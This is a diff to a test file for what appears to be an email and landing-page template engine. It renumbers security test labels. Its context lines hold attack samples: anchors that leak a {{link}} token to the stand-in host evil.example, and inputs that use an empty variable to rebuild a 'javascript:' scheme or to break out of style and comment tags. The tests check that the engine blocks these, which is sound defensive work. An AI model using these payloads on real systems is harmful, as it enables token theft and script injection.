@@ -13,7 +13,7 @@ import { fillEmail, hasStrayLink, hasStrayLinks, readEmail } from './commands/re
 
 const nobody: ValueOf = (name) => (name === 'link' ? 'TOKEN' : '');
 
-describe('security 16: the link of a letter', () => {
+describe('the link of a letter', () => {
   test.each([
     '<a href="https://evil.example/?u={{link}}">x</a>',
     "<a href='//evil.example/{{ link }}'>x</a>",
@@ -89,12 +89,12 @@ test.each([
   ['an end of a style', '<style>p{}</sty{{middle_name}}le><b>x</b></style>', /<\/style><b>/],
   ['an end of a comment', '<!-- --{{middle_name}}><b>x</b> -->', /--><b>/],
   ['a scheme', '<a href="java{{middle_name}}script:alert(1)">x</a>', /javascript:/],
-])('security 33: a variable that is empty makes no markup: %s', (_what, html, made) => {
+])('security 31: a variable that is empty makes no markup: %s', (_what, html, made) => {
   expect(html.replaceAll('{{middle_name}}', '')).toMatch(made);
   expect(fill(readHtml(html), nobody)).not.toMatch(made);
 });
 
-test('the words around a variable, in texts, attributes and comments, are filled and escaped', () => {
+test('security 31: the words around a variable, in texts, attributes and comments, are filled and escaped', () => {
   const values: ValueOf = (name) => (name === 'first_name' ? `<b>&"'` : nobody(name));
   const html = '<p title="{{first_name}}">{{ first_name }}</p><!--[if mso]><v:x alt="{{first_name}}">{{first_name}}<![endif]-->';
   const name = '&#60;b&#62;&#38;&#34;&#39;';
@@ -137,7 +137,7 @@ test('no letter and no page of the library puts its link astray', async () => {
   for (const page of pages) expect(hasStrayLink(page.html), page.name).toBe(false);
 });
 
-test('security 33: the form of a landing page posts and its fields have no names, whatever its variables leave', async () => {
+test('security 35: the form of a landing page posts and its fields have no names, whatever its variables leave', async () => {
   const home = await makeOrganization(server);
   const { token } = home.people.operator;
   const id = await makeTemplate(server, home);
@@ -154,7 +154,7 @@ test('security 33: the form of a landing page posts and its fields have no names
   expect(landing).not.toContain('{{first_name}}');
 });
 
-test('security 16: a template that would tell a stranger the token is refused, and one kept from before tells nobody', async () => {
+test('a template that would tell a stranger the token is refused, and one kept from before tells nobody', async () => {
   const home = await makeOrganization(server);
   const { token } = home.people.operator;
   const id = await makeTemplate(server, home);
